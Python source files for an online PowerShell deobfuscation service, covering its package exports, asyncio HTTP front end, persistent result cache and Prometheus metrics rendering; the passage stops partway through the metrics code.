"""The online deobfuscation service: ``repro serve`` and its engine.

Where :mod:`repro.batch` is the *offline* corpus mode (submit a task
list, drain it, shut the fleet down), this package is the *online*
mode the ROADMAP's production north star asks for: a long-running
process that keeps a warm worker fleet, answers HTTP requests, and —
because wild traffic is heavily duplicated — fronts the fleet with a
content-addressed result cache so repeated submissions cost a dict
lookup instead of a pipeline run.

Layers, bottom up:

- :mod:`repro.service.cache` — SHA-256-of-normalized-source → result,
  bounded LRU with a byte budget, and single-flight dedup (N
  concurrent identical requests execute once and share the result).
- :mod:`repro.service.shard` — N independent cache shards keyed by
  script-hash range, so concurrent front-end tasks never serialize on
  one cache lock.
- :mod:`repro.service.persist` — snapshot + append-only journal
  persistence: a restarted instance warm-starts its cache instead of
  cold-missing, skipping (and counting) corrupt records.
- :mod:`repro.service.core` — :class:`DeobfuscationService`: the
  bounded admission queue (reject with retry-after when full — the
  backpressure reaches clients, not the fleet), a dispatcher thread
  owning the interactive :class:`~repro.batch.BatchPool` API — grown
  and shrunk on queue-depth watermarks when autoscaling is on — and
  the lifetime telemetry aggregates.
- :mod:`repro.service.aserver` — the asyncio HTTP front end (the
  ``repro serve`` default): non-blocking parsing, bounded edge
  admission, graceful drain.
- :mod:`repro.service.http` — the original thread-per-connection
  front end (``repro serve --legacy-threaded``), same routes and
  dialect.
- :mod:`repro.service.fleet` — ``repro fleet``: N instances behind a
  consistent-hash router (script SHA-256 ring, rendezvous fallback),
  with fleet-wide ``/metrics`` aggregation.
- :mod:`repro.service.metrics` — Prometheus text rendering and
  cross-instance snapshot merging.

In-process use, no HTTP::

    from repro.service import DeobfuscationService, ServiceConfig

    with DeobfuscationService(ServiceConfig(jobs=4)) as svc:
        record = svc.submit("I`E`X ('wri'+'te-host hi')")
        print(record["script"], record["cache_hit"])

All guarantees of the batch pool hold per request: a hanging script is
SIGKILLed at its budget and costs one worker restart (counted in
``/metrics``), never a wedged service.
"""

from repro.service.cache import ResultCache, cache_key, normalize_source
from repro.service.core import (
    CACHEABLE_STATUSES,
    DeobfuscationService,
    ServiceConfig,
    ServiceUnavailable,
)
from repro.service.aserver import (
    AsyncServiceServer,
    run_async_server,
    start_async_server,
)
from repro.service.http import (
    ServiceHTTPServer,
    run_server,
    start_server,
)
from repro.service.metrics import merge_snapshots, render_metrics
from repro.service.persist import CachePersistence
from repro.service.shard import ShardedResultCache, shard_index

__all__ = [
    "AsyncServiceServer",
    "CACHEABLE_STATUSES",
    "CachePersistence",
    "DeobfuscationService",
    "ResultCache",
    "ServiceConfig",
    "ServiceHTTPServer",
    "ServiceUnavailable",
    "ShardedResultCache",
    "cache_key",
    "merge_snapshots",
    "normalize_source",
    "render_metrics",
    "run_async_server",
    "run_server",
    "shard_index",
    "start_async_server",
    "start_server",
]
