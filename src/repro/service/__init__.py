"""The online deobfuscation service: ``repro serve`` and its engine.

Where :mod:`repro.batch` is the *offline* corpus mode (submit a task
list, drain it, shut the fleet down), this package is the *online*
mode the ROADMAP's production north star asks for: a long-running
process that keeps a warm worker fleet, answers HTTP requests, and —
because wild traffic is heavily duplicated — fronts the fleet with a
content-addressed result cache so repeated submissions cost a dict
lookup instead of a pipeline run.

Layers, bottom up:

- :mod:`repro.service.cache` — SHA-256-of-normalized-source → result,
  bounded LRU with a byte budget, and single-flight dedup (N
  concurrent identical requests execute once and share the result).
- :mod:`repro.service.core` — :class:`DeobfuscationService`: the
  bounded admission queue (reject with retry-after when full — the
  backpressure reaches clients, not the fleet), a dispatcher thread
  owning the interactive :class:`~repro.batch.BatchPool` API, and the
  lifetime telemetry aggregates.
- :mod:`repro.service.http` — the stdlib HTTP front end
  (``/deobfuscate``, ``/healthz``, ``/metrics``) with graceful
  SIGTERM drain.
- :mod:`repro.service.metrics` — Prometheus text rendering.

In-process use, no HTTP::

    from repro.service import DeobfuscationService, ServiceConfig

    with DeobfuscationService(ServiceConfig(jobs=4)) as svc:
        record = svc.submit("I`E`X ('wri'+'te-host hi')")
        print(record["script"], record["cache_hit"])

All guarantees of the batch pool hold per request: a hanging script is
SIGKILLed at its budget and costs one worker restart (counted in
``/metrics``), never a wedged service.
"""

from repro.service.cache import ResultCache, cache_key, normalize_source
from repro.service.core import (
    CACHEABLE_STATUSES,
    DeobfuscationService,
    ServiceConfig,
    ServiceUnavailable,
)
from repro.service.http import (
    ServiceHTTPServer,
    run_server,
    start_server,
)
from repro.service.metrics import render_metrics

__all__ = [
    "CACHEABLE_STATUSES",
    "DeobfuscationService",
    "ResultCache",
    "ServiceConfig",
    "ServiceHTTPServer",
    "ServiceUnavailable",
    "cache_key",
    "normalize_source",
    "render_metrics",
    "run_server",
    "start_server",
]
