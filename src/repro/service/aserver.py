"""The asyncio HTTP front end: the default ``repro serve`` edge.

The original front end (:mod:`repro.service.http`, still available as
``repro serve --legacy-threaded``) spends one OS thread per
*connection*: cheap at tens of clients, ruinous at thousands, because
idle keep-alive connections pin threads and every accept pays a thread
spawn.  This module replaces the edge with a single-threaded asyncio
loop:

- **Non-blocking parsing** — request lines, headers, and bodies are
  read with stream readers; a slow (or slowloris) client costs a
  coroutine, not a thread, and is cut off by ``idle_timeout``.
- **Bounded admission at the edge** — at most ``max_pending``
  requests may be inside the service at once; beyond that the server
  answers 429 with a jittered ``Retry-After`` *without* blocking the
  loop.  (The service's own admission queue still bounds pipeline
  executions; this outer bound protects the dispatch executor.)
- **Sync core, async edge** — :meth:`DeobfuscationService.submit` is
  blocking by design (it coordinates the single-flight cache and the
  worker pool), so the loop dispatches it to a sized
  :class:`~concurrent.futures.ThreadPoolExecutor`.  Worker processes
  still do the heavy lifting; executor threads only wait.
- **Same dialect** — routes, request/response JSON, status codes,
  ``traceparent``/``X-Trace-Id`` handling, and drain semantics are
  shared with the threaded server (the body validation literally is:
  :func:`repro.service.http.shape_request`), so clients cannot tell
  the edges apart.
- **Graceful drain** — SIGTERM/SIGINT stop the listener, fail new
  requests 503, let in-flight requests finish, flush a final metrics
  snapshot, exit 0.

Tests embed the server with :func:`start_async_server`, which runs
the event loop on a daemon thread and returns a handle exposing
``server_address`` and ``shutdown()`` — mirroring
:func:`repro.service.http.start_server`.
"""

import asyncio
import functools
import json
import signal
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from typing import Any, Dict, Optional, Tuple
from urllib.parse import parse_qs, urlsplit

from repro.batch.pool import (
    register_fork_unsafe_fd,
    unregister_fork_unsafe_fd,
)
from repro.obs.trace import parse_traceparent
from repro.service.core import (
    DeobfuscationService,
    ServiceConfig,
    ServiceUnavailable,
    jittered_retry_after,
)
from repro.service.http import (
    _MAX_BODY_BYTES,
    _OK_STATUSES,
    RequestError,
    shape_request,
)
from repro.service.metrics import render_metrics

_MAX_HEADER_BYTES = 64 * 1024
_STATUS_TEXT = {
    200: "OK",
    400: "Bad Request",
    404: "Not Found",
    408: "Request Timeout",
    429: "Too Many Requests",
    431: "Request Header Fields Too Large",
    500: "Internal Server Error",
    503: "Service Unavailable",
}


class _BadHTTP(Exception):
    """Transport-level garbage: respond once and close the connection."""

    def __init__(self, code: int, message: str):
        super().__init__(message)
        self.code = code
        self.message = message


class AsyncServiceServer:
    """One service instance behind an asyncio HTTP/1.1 edge."""

    def __init__(
        self,
        service: DeobfuscationService,
        host: str = "127.0.0.1",
        port: int = 0,
        quiet: bool = True,
        max_pending: Optional[int] = None,
        idle_timeout: float = 30.0,
    ):
        self.service = service
        self.host = host
        self.port = port
        self.quiet = quiet
        # Enough slots for every admissible leader plus a band of
        # cache hits/joiners; beyond this the edge sheds load.
        self.max_pending = max_pending or (
            service.config.queue_limit * 2 + 32
        )
        self.idle_timeout = idle_timeout
        self.server_address: Tuple[str, int] = (host, port)
        self._server: Optional[asyncio.base_events.Server] = None
        self._executor = ThreadPoolExecutor(
            max_workers=self.max_pending,
            thread_name_prefix="repro-aserve",
        )
        self._pending = 0
        self._loop: Optional[asyncio.AbstractEventLoop] = None
        self._listen_fds: list = []

    # -- lifecycle ----------------------------------------------------------

    async def start(self) -> "AsyncServiceServer":
        self.service.start()
        self._loop = asyncio.get_running_loop()
        self._server = await asyncio.start_server(
            self._handle_connection,
            host=self.host,
            port=self.port,
            limit=_MAX_HEADER_BYTES,
        )
        sockets = self._server.sockets or ()
        for sock in sockets:
            self.server_address = sock.getsockname()[:2]
            break
        # Workers forked while this listener is open would otherwise
        # inherit it and keep the port alive past drain_and_stop().
        self._listen_fds = [sock.fileno() for sock in sockets]
        for fd in self._listen_fds:
            register_fork_unsafe_fd(fd)
        return self

    async def drain_and_stop(self) -> bool:
        """Stop accepting, finish in-flight work, shut the fleet down."""
        self.service.begin_drain()
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()
        for fd in self._listen_fds:
            unregister_fork_unsafe_fd(fd)
        self._listen_fds = []
        loop = asyncio.get_running_loop()
        drained = await loop.run_in_executor(
            None,
            functools.partial(
                self.service.drain,
                timeout=max(30.0, self.service.config.timeout + 10.0),
            ),
        )
        self._executor.shutdown(wait=True)
        self.service.close()
        return drained

    # -- connection handling ------------------------------------------------

    async def _handle_connection(self, reader, writer) -> None:
        try:
            while True:
                try:
                    request = await asyncio.wait_for(
                        self._read_request(reader),
                        timeout=self.idle_timeout,
                    )
                except asyncio.TimeoutError:
                    break
                except _BadHTTP as exc:
                    await self._respond_json(
                        writer, exc.code, {"error": exc.message},
                        keep_alive=False,
                    )
                    break
                if request is None:
                    break
                method, target, headers, body = request
                keep_alive = (
                    headers.get("connection", "").lower() != "close"
                )
                try:
                    await self._route(
                        writer, method, target, headers, body, keep_alive
                    )
                except (ConnectionResetError, BrokenPipeError):
                    break
                if not keep_alive:
                    break
        finally:
            try:
                writer.close()
                await writer.wait_closed()
            except (ConnectionResetError, BrokenPipeError, OSError):
                pass

    async def _read_request(self, reader):
        """Parse one HTTP/1.1 request; None on clean EOF."""
        try:
            request_line = await reader.readline()
        except (ValueError, asyncio.LimitOverrunError):
            raise _BadHTTP(431, "request line too long") from None
        if not request_line:
            return None
        parts = request_line.decode("latin-1").split()
        if len(parts) != 3:
            raise _BadHTTP(400, "malformed request line")
        method, target, _version = parts
        headers: Dict[str, str] = {}
        while True:
            try:
                line = await reader.readline()
            except (ValueError, asyncio.LimitOverrunError):
                raise _BadHTTP(431, "header section too large") from None
            if line in (b"\r\n", b"\n", b""):
                break
            if len(headers) > 256:
                raise _BadHTTP(431, "too many headers")
            name, sep, value = line.decode("latin-1").partition(":")
            if sep:
                headers[name.strip().lower()] = value.strip()
        try:
            length = int(headers.get("content-length") or 0)
        except ValueError:
            raise _BadHTTP(400, "bad Content-Length") from None
        if length < 0 or length > _MAX_BODY_BYTES:
            raise _BadHTTP(400, "bad or missing Content-Length")
        body = b""
        if length:
            try:
                body = await reader.readexactly(length)
            except asyncio.IncompleteReadError:
                return None
        return method, target, headers, body

    # -- responses ----------------------------------------------------------

    async def _respond(
        self,
        writer,
        code: int,
        body: bytes,
        content_type: str,
        headers: Optional[Dict[str, str]] = None,
        keep_alive: bool = True,
    ) -> None:
        reason = _STATUS_TEXT.get(code, "Unknown")
        head = [
            f"HTTP/1.1 {code} {reason}",
            f"Content-Type: {content_type}",
            f"Content-Length: {len(body)}",
            "Connection: " + ("keep-alive" if keep_alive else "close"),
        ]
        for name, value in (headers or {}).items():
            head.append(f"{name}: {value}")
        writer.write(
            ("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + body
        )
        await writer.drain()
        if not self.quiet:
            sys.stderr.write(f"aserve: {code} {len(body)}B\n")

    async def _respond_json(
        self, writer, code, payload, headers=None, keep_alive=True
    ) -> None:
        await self._respond(
            writer,
            code,
            json.dumps(payload, sort_keys=True).encode("utf-8"),
            "application/json",
            headers=headers,
            keep_alive=keep_alive,
        )

    # -- routing ------------------------------------------------------------

    async def _route(
        self, writer, method, target, headers, body, keep_alive
    ) -> None:
        url = urlsplit(target)
        if method == "GET" and url.path == "/healthz":
            health = self.service.healthz()
            code = 503 if health["status"] == "draining" else 200
            await self._respond_json(
                writer, code, health, keep_alive=keep_alive
            )
        elif method == "GET" and url.path == "/metrics":
            await self._respond(
                writer,
                200,
                render_metrics(
                    self.service.metrics_snapshot()
                ).encode("utf-8"),
                "text/plain; version=0.0.4; charset=utf-8",
                keep_alive=keep_alive,
            )
        elif method == "GET" and url.path == "/metrics.json":
            await self._respond_json(
                writer,
                200,
                self.service.metrics_snapshot(),
                keep_alive=keep_alive,
            )
        elif method == "GET" and url.path == "/statusz":
            await self._respond_json(
                writer,
                200,
                self.service.statusz(),
                keep_alive=keep_alive,
            )
        elif method == "POST" and url.path == "/deobfuscate":
            await self._deobfuscate(
                writer, url, headers, body, keep_alive
            )
        else:
            await self._respond_json(
                writer,
                404,
                {"error": f"no such path: {target}"},
                keep_alive=keep_alive,
            )

    async def _deobfuscate(
        self, writer, url, headers, body, keep_alive
    ) -> None:
        query = parse_qs(url.query)
        query_verify = (query.get("verify") or ["0"])[-1].lower() in (
            "1", "true", "yes",
        )
        try:
            payload = json.loads(body or b"")
        except (ValueError, UnicodeDecodeError):
            await self._respond_json(
                writer,
                400,
                {"error": "body is not valid JSON"},
                keep_alive=keep_alive,
            )
            return
        try:
            script, options, verify, timeout = shape_request(
                payload, default_verify=query_verify
            )
        except RequestError as exc:
            await self._respond_json(
                writer, 400, exc.payload, keep_alive=keep_alive
            )
            return

        if self._pending >= self.max_pending:
            retry_after = jittered_retry_after(1.0)
            await self._respond_json(
                writer,
                429,
                {"error": "edge at capacity", "retry_after": retry_after},
                headers={"Retry-After": str(retry_after)},
                keep_alive=keep_alive,
            )
            return

        trace = parse_traceparent(headers.get("traceparent") or "")
        loop = asyncio.get_running_loop()
        self._pending += 1
        try:
            record = await loop.run_in_executor(
                self._executor,
                functools.partial(
                    self.service.submit,
                    script,
                    options=options,
                    timeout=timeout,
                    verify=verify,
                    trace=trace,
                ),
            )
        except ServiceUnavailable as exc:
            code = 503 if exc.reason == "draining" else 429
            retry_after = jittered_retry_after(exc.retry_after)
            await self._respond_json(
                writer,
                code,
                {"error": exc.reason, "retry_after": retry_after},
                headers={"Retry-After": str(retry_after)},
                keep_alive=keep_alive,
            )
            return
        finally:
            self._pending -= 1

        if not payload.get("stats"):
            record.pop("stats", None)
        code = 200 if record.get("status") in _OK_STATUSES else 500
        extra = None
        trace_id = record.get("trace_id")
        if trace_id:
            extra = {"X-Trace-Id": str(trace_id)}
        await self._respond_json(
            writer, code, record, headers=extra, keep_alive=keep_alive
        )


# --------------------------------------------------------------------------
# embedding and CLI entry points
# --------------------------------------------------------------------------

class AsyncServerHandle:
    """Test/embedding handle: background event loop + running server."""

    def __init__(self, server: AsyncServiceServer, loop, thread):
        self.server = server
        self.loop = loop
        self.thread = thread

    @property
    def server_address(self) -> Tuple[str, int]:
        return self.server.server_address

    def shutdown(self, drain: bool = True) -> bool:
        """Stop the server (optionally draining) and join the loop."""
        if not self.loop.is_running():
            return True
        if drain:
            future = asyncio.run_coroutine_threadsafe(
                self.server.drain_and_stop(), self.loop
            )
            drained = future.result(timeout=60.0)
        else:
            drained = True
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(timeout=10.0)
        return drained


def start_async_server(
    service: DeobfuscationService,
    host: str = "127.0.0.1",
    port: int = 0,
    quiet: bool = True,
    **server_options: Any,
) -> AsyncServerHandle:
    """Run the asyncio edge on a daemon thread; return its handle.

    The counterpart of :func:`repro.service.http.start_server` for
    tests and embedders: ``port=0`` binds an ephemeral port, readable
    from ``handle.server_address`` once this returns.
    """
    loop = asyncio.new_event_loop()
    server = AsyncServiceServer(
        service, host=host, port=port, quiet=quiet, **server_options
    )
    started = threading.Event()
    failure: list = []

    def _run() -> None:
        asyncio.set_event_loop(loop)

        async def _boot():
            try:
                await server.start()
            except BaseException as exc:  # noqa: BLE001 — surface to caller
                failure.append(exc)
            finally:
                started.set()

        loop.create_task(_boot())
        loop.run_forever()
        # Cancel whatever is left so the loop closes cleanly.
        for task in asyncio.all_tasks(loop):
            task.cancel()
        loop.run_until_complete(
            asyncio.gather(*asyncio.all_tasks(loop), return_exceptions=True)
        )
        loop.close()

    thread = threading.Thread(
        target=_run, name="repro-aserve-loop", daemon=True
    )
    thread.start()
    if not started.wait(timeout=10.0):
        raise RuntimeError("async server did not start within 10s")
    if failure:
        loop.call_soon_threadsafe(loop.stop)
        thread.join(timeout=5.0)
        raise failure[0]
    return AsyncServerHandle(server, loop, thread)


async def _serve_until_signal(
    server: AsyncServiceServer, port_file: Optional[str]
) -> bool:
    await server.start()
    host, port = server.server_address
    if port_file:
        with open(port_file, "w", encoding="utf-8") as handle:
            handle.write(str(port))
    config = server.service.config
    print(
        f"repro serve: listening on http://{host}:{port} "
        f"({config.jobs} workers, queue limit {config.queue_limit}, "
        f"asyncio front end)",
        file=sys.stderr,
        flush=True,
    )
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for signum in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(signum, stop.set)
    try:
        await stop.wait()
    finally:
        for signum in (signal.SIGTERM, signal.SIGINT):
            loop.remove_signal_handler(signum)
    print("repro serve: draining…", file=sys.stderr, flush=True)
    service = server.service
    drained = await server.drain_and_stop()
    print(
        render_metrics(service.metrics_snapshot()),
        file=sys.stderr,
        flush=True,
    )
    print(
        "repro serve: drained cleanly"
        if drained
        else "repro serve: drain timed out; some work was dropped",
        file=sys.stderr,
        flush=True,
    )
    return drained


def run_async_server(
    config: ServiceConfig,
    host: str = "127.0.0.1",
    port: int = 8765,
    port_file: Optional[str] = None,
    quiet: bool = True,
) -> int:
    """Blocking ``repro serve`` body on the asyncio front end."""
    service = DeobfuscationService(config)
    server = AsyncServiceServer(service, host=host, port=port, quiet=quiet)
    try:
        drained = asyncio.run(_serve_until_signal(server, port_file))
    except OSError as exc:
        print(f"error: cannot bind {host}:{port}: {exc}", file=sys.stderr)
        return 1
    return 0 if drained else 1
