"""Cache persistence: snapshot plus append-only journal, warm-start.

A restarted service instance used to cold-miss its entire working set
— exactly the requests a fleet router keeps sending it, because
consistent hashing pins each script to its instance.  This module
makes the result cache survive the process:

layout
    ``<dir>/snapshot.jsonl`` — one ``{"key", "record"}`` JSON object
    per line, the cache contents as of the last compaction.
    ``<dir>/journal.jsonl`` — one object per *store* since that
    snapshot, appended (and flushed) as results resolve.  Load order
    is snapshot first, then journal, so the journal's newer duplicates
    win by recency.

corruption tolerance
    Both files are read line by line; a line that fails to parse, is
    truncated mid-write (the common crash artifact), fails its length
    check, or lacks the expected fields is *skipped and counted*,
    never fatal.  ``skipped_records`` is surfaced through ``/healthz``
    and ``/metrics`` so silent rot is visible.

compaction
    :meth:`CachePersistence.compact` rewrites the snapshot from the
    live cache (atomic rename) and truncates the journal.  The service
    compacts on graceful shutdown and whenever the journal grows past
    ``compact_after`` records, so unbounded append never eats the disk.

Each journal line carries the JSON payload's byte length
(``"n": len(record_json)``) as a cheap integrity check: a torn write
that happens to end on a newline still fails the length comparison.
"""

import json
import os
import threading
from typing import Any, Dict, Iterator, Optional, Tuple

from repro.obs.log import get_logger

SNAPSHOT_NAME = "snapshot.jsonl"
JOURNAL_NAME = "journal.jsonl"

_log = get_logger("service.persist")

# Journal records between automatic compactions.
DEFAULT_COMPACT_AFTER = 4096


def _encode_line(key: str, record: dict) -> bytes:
    payload = json.dumps(record, sort_keys=True, default=str)
    line = json.dumps(
        {"key": key, "n": len(payload), "record": record},
        sort_keys=True,
        default=str,
    )
    return line.encode("utf-8") + b"\n"


def _decode_line(raw: bytes) -> Optional[Tuple[str, dict]]:
    """Parse one persisted line; None for anything malformed."""
    try:
        obj = json.loads(raw.decode("utf-8"))
    except (ValueError, UnicodeDecodeError):
        return None
    if not isinstance(obj, dict):
        return None
    key = obj.get("key")
    record = obj.get("record")
    if not isinstance(key, str) or not isinstance(record, dict):
        return None
    expected = obj.get("n")
    if expected is not None:
        payload = json.dumps(record, sort_keys=True, default=str)
        if len(payload) != expected:
            return None
    return key, record


class CachePersistence:
    """Snapshot + journal persistence for a result cache directory.

    Thread-safe for concurrent :meth:`append` calls (the service's
    dispatcher and front-end tasks both store results).  ``load()``
    must run before the first append — the service wires this at
    startup.
    """

    def __init__(
        self,
        directory: str,
        compact_after: int = DEFAULT_COMPACT_AFTER,
    ):
        self.directory = directory
        self.compact_after = max(1, compact_after)
        self.snapshot_path = os.path.join(directory, SNAPSHOT_NAME)
        self.journal_path = os.path.join(directory, JOURNAL_NAME)
        self._lock = threading.Lock()
        self._journal_handle = None
        self._journal_records = 0
        # Lifetime counters, surfaced in /healthz and /metrics.
        self.loaded_entries = 0
        self.skipped_records = 0
        # The journal-only share of skipped_records: journal drops are
        # data *loss* (the result existed only there), while snapshot
        # drops usually re-derive from the journal — operators alert on
        # the former (repro_service_cache_journal_dropped_total).
        self.journal_skipped_records = 0
        self.appended_records = 0
        self.compactions = 0
        self.warm_start = False
        os.makedirs(directory, exist_ok=True)

    # -- load ---------------------------------------------------------------

    def _read_file(
        self, path: str, journal: bool = False
    ) -> Iterator[Tuple[str, dict]]:
        if not os.path.exists(path):
            return
        with open(path, "rb") as handle:
            for number, raw in enumerate(handle, start=1):
                decoded = _decode_line(raw)
                if decoded is None:
                    if raw.strip():
                        self.skipped_records += 1
                        if journal:
                            self.journal_skipped_records += 1
                        _log.warning(
                            "dropped corrupt persisted cache record",
                            file=os.path.basename(path),
                            line=number,
                            bytes=len(raw),
                        )
                    continue
                yield decoded

    def load(self) -> Dict[str, dict]:
        """Read snapshot then journal; newest duplicate wins.

        Returns an insertion-ordered mapping (oldest first) so an LRU
        cache loading it evicts the stale end under budget pressure.
        Sets :attr:`warm_start` when anything was recovered.
        """
        entries: Dict[str, dict] = {}
        for key, record in self._read_file(self.snapshot_path):
            entries.pop(key, None)
            entries[key] = record
        journal_lines = 0
        for key, record in self._read_file(self.journal_path, journal=True):
            journal_lines += 1
            entries.pop(key, None)
            entries[key] = record
        self._journal_records = journal_lines
        self.loaded_entries = len(entries)
        self.warm_start = bool(entries)
        return entries

    # -- append path --------------------------------------------------------

    def append(self, key: str, record: dict) -> bool:
        """Journal one stored result; True when compaction is due."""
        line = _encode_line(key, record)
        with self._lock:
            if self._journal_handle is None:
                self._journal_handle = open(self.journal_path, "ab")
            self._journal_handle.write(line)
            self._journal_handle.flush()
            self._journal_records += 1
            self.appended_records += 1
            return self._journal_records >= self.compact_after

    # -- compaction ---------------------------------------------------------

    def compact(self, entries: Iterator[Tuple[str, dict]]) -> int:
        """Rewrite the snapshot from *entries*; truncate the journal.

        The snapshot is written to a temp file and renamed over the old
        one, so a crash mid-compaction leaves the previous snapshot
        (plus the untruncated journal) intact.  Returns the entry
        count written.
        """
        tmp_path = self.snapshot_path + ".tmp"
        written = 0
        with self._lock:
            with open(tmp_path, "wb") as handle:
                for key, record in entries:
                    handle.write(_encode_line(key, record))
                    written += 1
                handle.flush()
                os.fsync(handle.fileno())
            os.replace(tmp_path, self.snapshot_path)
            if self._journal_handle is not None:
                self._journal_handle.close()
                self._journal_handle = None
            open(self.journal_path, "wb").close()
            self._journal_records = 0
            self.compactions += 1
        _log.info(
            "compacted cache snapshot", entries=written,
            directory=self.directory,
        )
        return written

    def close(self) -> None:
        with self._lock:
            if self._journal_handle is not None:
                self._journal_handle.close()
                self._journal_handle = None

    # -- introspection ------------------------------------------------------

    def snapshot_counters(self) -> Dict[str, Any]:
        return {
            "enabled": True,
            "warm_start": self.warm_start,
            "loaded_entries": self.loaded_entries,
            "skipped_records": self.skipped_records,
            "journal_skipped_records": self.journal_skipped_records,
            "appended_records": self.appended_records,
            "compactions": self.compactions,
            "journal_records": self._journal_records,
        }
