"""Prometheus text rendering of the service's telemetry.

One function, :func:`render_metrics`, turns
:meth:`DeobfuscationService.metrics_snapshot` into the Prometheus
exposition format (text version 0.0.4) — no client library needed,
because everything exported is a monotonic counter or an instant
gauge the service already tracks:

- ``repro_service_*`` — request outcomes, cache behaviour, admission
  queue depth/limit, worker fleet size and restart reasons;
- ``repro_pipeline_*`` — the service-lifetime aggregate of
  :class:`~repro.obs.PipelineStats` over every executed request
  (phase seconds, recovery outcomes, unwrap kinds, technique tags,
  evaluator steps), i.e. PR 2's per-run telemetry re-exported as
  fleet totals;
- ``repro_pipeline_duration_seconds`` / ``repro_service_request_
  duration_seconds`` — proper cumulative-bucket histograms
  (``_bucket``/``_sum``/``_count``) instead of point gauges, each
  non-empty bucket annotated with an OpenMetrics-style exemplar:
  the trace_id of the worst request that landed in it, so the slow
  bucket points straight at a ``repro trace`` waterfall.

Phase labels are the canonical span names of
:mod:`repro.obs.spans`; :func:`canonical_phase_name` asserts no
legacy spelling reaches a render path.

``repro_service_cache_hit_ratio`` counts coalesced joins as hits:
both mean "a pipeline execution was avoided", which is the number a
capacity planner wants.
"""

from typing import Any, Dict, List

from repro.obs.spans import canonical_phase_name

_PIPELINE_COUNTERS = (
    "tokens_rewritten",
    "pieces_recovered",
    "variables_traced",
    "variables_substituted",
    "trace_hits",
    "trace_misses",
    "evaluator_steps",
    "recovery_cache_hits",
    "subtree_memo_hits",
    "subtree_memo_misses",
    "intern_hits",
    "intern_misses",
)


def _escape_label(value: str) -> str:
    return (
        value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    )


def _metric(
    lines: List[str],
    name: str,
    kind: str,
    help_text: str,
    samples,
) -> None:
    """Append one metric family: HELP/TYPE plus ``(labels, value)``
    sample pairs (labels may be None)."""
    lines.append(f"# HELP {name} {help_text}")
    lines.append(f"# TYPE {name} {kind}")
    for labels, value in samples:
        if labels:
            rendered = ",".join(
                f'{k}="{_escape_label(str(v))}"'
                for k, v in sorted(labels.items())
            )
            lines.append(f"{name}{{{rendered}}} {value}")
        else:
            lines.append(f"{name} {value}")


def _format_le(bound: float) -> str:
    if bound == float("inf"):
        return "+Inf"
    text = f"{bound:g}"
    return text


def _histogram(
    lines: List[str],
    name: str,
    help_text: str,
    hist: Dict[str, Any],
) -> None:
    """Append one histogram family from a
    :meth:`repro.obs.hist.Histogram.to_dict` payload.

    Non-empty buckets carry an OpenMetrics-style exemplar — the
    trace_id and value of the worst observation that landed in the
    bucket — appended as ``# {trace_id="..."} value``.
    """
    bounds = [float(b) for b in hist.get("bounds", ())]
    counts = [int(c) for c in hist.get("counts", ())]
    exemplars = hist.get("exemplars") or {}
    lines.append(f"# HELP {name} {help_text}")
    lines.append(f"# TYPE {name} histogram")
    running = 0
    for index, bound in enumerate(bounds + [float("inf")]):
        bin_count = counts[index] if index < len(counts) else 0
        running += bin_count
        sample = f'{name}_bucket{{le="{_format_le(bound)}"}} {running}'
        exemplar = exemplars.get(str(index))
        if exemplar and bin_count:
            sample += (
                f' # {{trace_id="{_escape_label(str(exemplar["trace_id"]))}"}}'
                f' {exemplar["value"]}'
            )
        lines.append(sample)
    lines.append(f"{name}_sum {round(float(hist.get('sum', 0.0)), 6)}")
    lines.append(f"{name}_count {int(hist.get('count', 0))}")


def render_metrics(snapshot: Dict[str, Any]) -> str:
    """The ``/metrics`` response body for one snapshot."""
    counters = snapshot.get("counters", {})
    cache = snapshot.get("cache", {})
    restarts = snapshot.get("worker_restarts", {})
    pipeline = snapshot.get("pipeline", {})
    lines: List[str] = []

    _metric(
        lines,
        "repro_service_requests_total",
        "counter",
        "Requests accepted by the service front end.",
        [(None, counters.get("requests", 0))],
    )
    _metric(
        lines,
        "repro_service_responses_total",
        "counter",
        "Requests by how they were answered.",
        [
            ({"via": "cache"}, counters.get("cache_hits", 0)),
            ({"via": "coalesced"}, counters.get("coalesced", 0)),
            ({"via": "executed"}, counters.get("executions", 0)),
            ({"via": "rejected"}, counters.get("rejected", 0)),
        ],
    )
    _metric(
        lines,
        "repro_service_errors_total",
        "counter",
        "Executions that ended in a worker error record.",
        [(None, counters.get("errors", 0))],
    )
    _metric(
        lines,
        "repro_service_request_timeouts_total",
        "counter",
        "Requests that gave up waiting for a result.",
        [(None, counters.get("request_timeouts", 0))],
    )
    _metric(
        lines,
        "repro_service_queue_depth",
        "gauge",
        "Admitted pipeline executions currently queued or running.",
        [(None, snapshot.get("queue_depth", 0))],
    )
    _metric(
        lines,
        "repro_service_queue_limit",
        "gauge",
        "Admission queue capacity (429 beyond this).",
        [(None, snapshot.get("queue_limit", 0))],
    )
    _metric(
        lines,
        "repro_service_draining",
        "gauge",
        "1 while the service is draining (rejecting new work).",
        [(None, 1 if snapshot.get("draining") else 0)],
    )
    _metric(
        lines,
        "repro_service_uptime_seconds",
        "gauge",
        "Seconds since the service started.",
        [(None, snapshot.get("uptime_seconds", 0))],
    )

    _metric(
        lines,
        "repro_service_cache_hits_total",
        "counter",
        "Cache lookups answered from a stored result.",
        [(None, cache.get("hits", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_misses_total",
        "counter",
        "Cache lookups that found nothing stored.",
        [(None, cache.get("misses", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_coalesced_total",
        "counter",
        "Lookups that joined an identical in-flight execution.",
        [(None, cache.get("coalesced", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_evictions_total",
        "counter",
        "Entries evicted by the entry or byte budget.",
        [(None, cache.get("evictions", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_entries",
        "gauge",
        "Results currently cached.",
        [(None, cache.get("entries", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_bytes",
        "gauge",
        "Approximate bytes of cached results.",
        [(None, cache.get("bytes", 0))],
    )
    hits = counters.get("cache_hits", 0) + counters.get("coalesced", 0)
    answered = hits + counters.get("executions", 0)
    _metric(
        lines,
        "repro_service_cache_hit_ratio",
        "gauge",
        "Share of answered requests that avoided a pipeline execution "
        "(cache hits + coalesced joins).",
        [(None, round(hits / answered, 6) if answered else 0.0)],
    )

    _metric(
        lines,
